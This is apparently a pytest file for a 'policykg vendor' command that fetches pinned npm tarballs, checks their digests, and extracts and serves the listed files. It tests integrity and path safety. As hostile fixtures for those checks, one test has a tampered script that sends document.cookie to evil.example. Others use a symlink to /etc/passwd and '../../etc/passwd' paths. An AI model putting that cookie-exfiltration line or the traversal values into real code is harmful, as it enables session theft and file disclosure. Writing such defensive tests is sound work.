"""`policykg vendor`: pinned npm tarballs, checked by digest, extracted atomically, served at /vendor.

Every test but the last builds its tarballs here and passes its own ``fetch``:
no network. The last one really vendors the pinned editor from the npm
registry (skipped, saying so, only when the registry cannot be reached).
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
import yaml
from fastapi import FastAPI
from fastapi.testclient import TestClient

from policykg import vendor
from policykg.api import querypage
from policykg.cli import main
from policykg.vendor import IntegrityError, VendorError

FILES = {"LICENSE": b"MIT\n", "lib/editor.js": b"window.Editor = 1;\n", "lib/editor.css": b".editor { }\n"}


def tarball(files: dict[str, bytes] = FILES, name: str = "fakepkg", version: str = "1.0.0",
            extra: list[tarfile.TarInfo] | None = None) -> bytes:
    """An npm-style tarball: package/package.json and the files, plus anything in ``extra``."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        contents = {"package.json": json.dumps({"name": name, "version": version}).encode(), **files,
                    "README.md": b"not listed\n"}
        for path, data in contents.items():
            info = tarfile.TarInfo(f"package/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for info in extra or []:
            archive.addfile(info, io.BytesIO(b"x" * info.size) if info.isreg() else None)
    return buffer.getvalue()


def write_spec(folder: Path, data: bytes, files=tuple(FILES), name: str = "fakepkg", version: str = "1.0.0") -> Path:
    spec = folder / "vendor.yaml"
    spec.write_text(yaml.safe_dump({"registry": "https://registry.example", "packages": [
        {"name": name, "version": version, "integrity": vendor.sri_sha512(data), "files": list(files)}]}))
    return spec


class Fetcher:
    """A stand-in for the download: the bytes to answer, and the URLs asked."""

    def __init__(self, data: bytes):
        self.data = data
        self.urls: list[str] = []

    def __call__(self, url: str) -> bytes:
        self.urls.append(url)
        return self.data


def refuse(url: str) -> bytes:
    raise AssertionError(f"nothing should be downloaded, yet {url} was asked")


def leftovers(dest: Path) -> list[Path]:
    return [p for p in dest.iterdir() if p.name.startswith(".")] if dest.exists() else []


def test_listed_files_are_extracted_with_a_manifest_and_a_second_run_does_nothing(tmp_path) -> None:
    data = tarball()
    spec, dest = write_spec(tmp_path, data), tmp_path / "dist" / "vendor"
    fetch = Fetcher(data)
    (result,) = vendor.vendor(dest, spec=spec, fetch=fetch)
    assert fetch.urls == ["https://registry.example/fakepkg/-/fakepkg-1.0.0.tgz"]
    assert result.fetched and result.path == dest / "fakepkg"
    for path, content in FILES.items():
        assert (dest / "fakepkg" / path).read_bytes() == content
    assert not (dest / "fakepkg" / "README.md").exists() and not (dest / "fakepkg" / "package.json").exists()
    manifest = json.loads((dest / "fakepkg" / vendor.MANIFEST).read_text())
    assert manifest["version"] == "1.0.0" and manifest["integrity"] == vendor.sri_sha512(data)
    assert manifest["files"] == {path: hashlib.sha256(content).hexdigest() for path, content in FILES.items()}
    assert leftovers(dest) == []

    (again,) = vendor.vendor(dest, spec=spec, fetch=refuse)
    assert not again.fetched and again.files == manifest["files"]


def test_a_tampered_tarball_is_refused_and_nothing_is_written(tmp_path) -> None:
    genuine = tarball()
    tampered = tarball({**FILES, "lib/editor.js": b"fetch('https://evil.example/' + document.cookie);\n"})
    spec, dest = write_spec(tmp_path, genuine), tmp_path / "vendor"
    with pytest.raises(IntegrityError) as refused:
        vendor.vendor(dest, spec=spec, fetch=Fetcher(tampered))
    message = str(refused.value)
    assert "fakepkg@1.0.0" in message
    assert f"expected {vendor.sri_sha512(genuine)}" in message and f"got {vendor.sri_sha512(tampered)}" in message
    assert isinstance(refused.value, vendor.PolicyKGError) and refused.value.exit_code == 2
    assert not (dest / "fakepkg").exists() and leftovers(dest) == []

    # over a good copy: the good copy stays
    vendor.vendor(dest, spec=spec, fetch=Fetcher(genuine))
    with pytest.raises(IntegrityError):
        vendor.vendor(dest, spec=spec, fetch=Fetcher(tampered), force=True)
    assert (dest / "fakepkg" / "lib/editor.js").read_bytes() == FILES["lib/editor.js"]
    assert vendor.is_current(dest / "fakepkg", vendor.load_spec(spec).packages[0]) and leftovers(dest) == []


def test_a_failed_extraction_leaves_the_previous_copy_whole(tmp_path, monkeypatch) -> None:
    data = tarball()
    spec, dest = write_spec(tmp_path, data), tmp_path / "vendor"
    vendor.vendor(dest, spec=spec, fetch=Fetcher(data))
    before = {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()}

    real_extract = vendor.extract

    def half_then_fail(data, package, folder):
        real_extract(data, package, folder)  # every file written into the temporary folder …
        raise OSError("disk full")  # … then the run fails before the rename

    monkeypatch.setattr(vendor, "extract", half_then_fail)
    with pytest.raises(OSError, match="disk full"):
        vendor.vendor(dest, spec=spec, fetch=Fetcher(data), force=True)
    assert {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()} == before
    assert leftovers(dest) == []

    # and with nothing there before: nothing there after
    with pytest.raises(OSError):
        vendor.vendor(tmp_path / "fresh", spec=spec, fetch=Fetcher(data))
    assert list((tmp_path / "fresh").iterdir()) == []


def test_a_changed_file_is_vendored_again(tmp_path) -> None:
    data = tarball()
    spec, dest = write_spec(tmp_path, data), tmp_path / "vendor"
    vendor.vendor(dest, spec=spec, fetch=Fetcher(data))
    (dest / "fakepkg" / "lib/editor.js").write_bytes(b"changed")
    assert "fakepkg" not in vendor.installed(dest)  # the server does not serve a changed copy
    (result,) = vendor.vendor(dest, spec=spec, fetch=Fetcher(data))
    assert result.fetched and (dest / "fakepkg" / "lib/editor.js").read_bytes() == FILES["lib/editor.js"]
    assert "fakepkg" in vendor.installed(dest)


def test_a_listed_file_missing_or_not_a_regular_file_is_an_error(tmp_path) -> None:
    link = tarfile.TarInfo("package/lib/link.js")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    data = tarball(extra=[link])
    spec = write_spec(tmp_path, data, files=["LICENSE", "lib/link.js", "lib/absent.js"])
    with pytest.raises(VendorError, match=r"fakepkg@1.0.0: the tarball has no lib/absent.js, lib/link.js"):
        vendor.vendor(tmp_path / "vendor", spec=spec, fetch=Fetcher(data))
    assert leftovers(tmp_path / "vendor") == [] and not (tmp_path / "vendor" / "fakepkg").exists()


def test_the_tarball_must_be_the_pinned_version(tmp_path) -> None:
    data = tarball(version="2.0.0")  # its digest pinned for 1.0.0 by mistake
    spec = write_spec(tmp_path, data, version="1.0.0")
    with pytest.raises(VendorError, match="the tarball is fakepkg@2.0.0, not the package pinned"):
        vendor.vendor(tmp_path / "vendor", spec=spec, fetch=Fetcher(data))


@pytest.mark.parametrize("entry, problem", [
    ({"version": "^5.65.0"}, "must be exact"),
    ({"integrity": "sha1-abc"}, "integrity must be"),
    ({"files": ["../../etc/passwd"]}, "plain relative path"),
    ({"files": ["/etc/passwd"]}, "plain relative path"),
    ({"files": []}, "`files` must list"),
    ({"name": "Not A Name"}, "not an npm package name"),
])
def test_a_bad_spec_names_the_field(tmp_path, entry, problem) -> None:
    good = {"name": "fakepkg", "version": "1.0.0", "integrity": vendor.sri_sha512(b""), "files": ["LICENSE"]}
    spec = tmp_path / "vendor.yaml"
    spec.write_text(yaml.safe_dump({"packages": [{**good, **entry}]}))
    with pytest.raises(VendorError, match=problem):
        vendor.load_spec(spec)


def test_the_pinned_spec_holds_the_editor_the_page_loads() -> None:
    spec = vendor.load_spec()
    (editor,) = [p for p in spec.packages if p.name == querypage.EDITOR]
    assert editor.version.startswith("5.65.")
    assert set(querypage.EDITOR_SCRIPTS + querypage.EDITOR_STYLES) <= set(editor.files)
    assert "LICENSE" in editor.files and spec.registry == "https://registry.npmjs.org"


def test_mount_vendor_serves_what_is_intact(tmp_path) -> None:
    data = tarball()
    vendor.vendor(tmp_path / "vendor", spec=write_spec(tmp_path, data), fetch=Fetcher(data))
    app = FastAPI()
    querypage.mount_vendor(app, SimpleNamespace(data=tmp_path / "policykg.trig"))
    assert set(app.state.vendored) == {"fakepkg"}
    with TestClient(app) as client:
        answer = client.get("/vendor/fakepkg/lib/editor.js")
        assert answer.status_code == 200 and answer.content == FILES["lib/editor.js"]
        assert client.get("/vendor/fakepkg/README.md").status_code == 404

    bare = FastAPI()  # no vendor folder: nothing mounted, nothing vendored
    querypage.mount_vendor(bare, SimpleNamespace(data=tmp_path / "elsewhere" / "policykg.trig"))
    assert bare.state.vendored == {} and not any(getattr(r, "path", "") == "/vendor" for r in bare.routes)


def test_the_cli_refuses_a_tampered_download(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(vendor, "download", Fetcher(tarball(name="codemirror", version="5.65.21")))
    assert main(["vendor", "--out", str(tmp_path)]) == 2
    error = capsys.readouterr().err
    assert error.startswith("policykg vendor: codemirror@5.65.21: the tarball from https://registry.npmjs.org/")
    assert "fails its integrity check: expected sha512-" in error
    assert not (tmp_path / "vendor" / "codemirror").exists()


def _registry_reachable() -> str | None:
    try:
        httpx.head(vendor.REGISTRY + "/codemirror", timeout=10, follow_redirects=True)
    except httpx.HTTPError as error:
        return f"{type(error).__name__}: {error}"
    return None


def test_the_editor_really_vendors_from_the_registry(tmp_path, capsys) -> None:
    problem = _registry_reachable()
    if problem:
        pytest.skip(f"the npm registry {vendor.REGISTRY} cannot be reached ({problem}); "
                    "this test downloads the pinned CodeMirror tarball from it")
    assert main(["vendor", "--out", str(tmp_path)]) == 0
    assert "downloaded, integrity verified" in capsys.readouterr().out
    folder = tmp_path / "vendor" / "codemirror"
    spec = vendor.load_spec()
    (editor,) = spec.packages
    assert vendor.is_current(folder, editor)
    assert f'CodeMirror.version = "{editor.version}"' in (folder / "lib/codemirror.js").read_text()
    assert 'defineMIME("application/sparql-query"' in (folder / "mode/sparql/sparql.js").read_text()
    assert main(["vendor", "--out", str(tmp_path)]) == 0
    assert "already present, unchanged" in capsys.readouterr().out
